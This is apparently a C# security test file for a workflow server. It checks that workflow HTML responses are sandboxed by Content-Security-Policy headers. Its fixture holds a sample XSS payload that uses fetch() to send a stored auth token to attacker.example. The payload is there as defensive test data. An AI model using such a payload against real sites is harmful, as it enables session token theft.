using System.Net;
using System.Text.Json.Nodes;
using ElsaM3.Server.Tests.Support;
using static ElsaM3.Server.Tests.Support.Workflows;

namespace ElsaM3.Server.Tests.Security;

/// <summary>What a workflow answers is shown by a browser in a sandbox: no script of it runs in Studio's origin.</summary>
public sealed class WorkflowSandboxTests : IAsyncLifetime
{
    private readonly ElsaM3Application _app = new();

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync() => await _app.DisposeAsync();

    private static string EvilPage(string? ownPolicy) => new JsonObject
    {
        ["id"] = "r", ["type"] = "Elsa.WriteHttpResponse", ["version"] = 1,
        ["content"] = new JsonObject { ["typeName"] = "Object", ["expression"] = new JsonObject { ["type"] = "Literal",
            ["value"] = "<script>fetch('https://attacker.example/?t=' + sessionStorage.getItem('elsam3.auth'))</script>" } },
        ["contentType"] = new JsonObject { ["typeName"] = "String", ["expression"] = new JsonObject { ["type"] = "Literal", ["value"] = "text/html" } },
        ["responseHeaders"] = ownPolicy is null ? null : new JsonObject { ["typeName"] = "Elsa.Http.Models.HttpHeaders, Elsa.Http",
            ["expression"] = new JsonObject { ["type"] = "Object", ["value"] = $"{{\"Content-Security-Policy\":\"{ownPolicy}\",\"X-Content-Type-Options\":\"\"}}" } },
    }.ToJsonString();

    [Theory]
    [InlineData(null)]
    [InlineData("script-src *")]
    public async Task An_html_answer_with_a_script_is_sandboxed_whatever_headers_the_workflow_sets(string? ownPolicy)
    {
        var analyst = await _app.CreateAnalystClientAsync();
        await analyst.PublishAsync(HttpWorkflow("evil", "evil", "GET", EvilPage(ownPolicy), Connect("ep", "r")));

        var response = await _app.CreateClient().GetAsync("/workflows/evil");

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/html");
        var policy = response.Headers.GetValues("Content-Security-Policy").Single();
        policy.ShouldStartWith("sandbox");
        policy.ShouldNotContain("allow-scripts");
        policy.ShouldNotContain("allow-same-origin");
        response.Headers.GetValues("X-Content-Type-Options").Single().ShouldBe("nosniff");
    }

    [Fact]
    public async Task Refusals_under_the_workflow_path_are_sandboxed_too()
    {
        var response = await _app.CreateClient().GetAsync("/workflows/nothing-here");

        response.StatusCode.ShouldBe(HttpStatusCode.NotFound);
        response.Headers.GetValues("Content-Security-Policy").Single().ShouldStartWith("sandbox");
    }
}
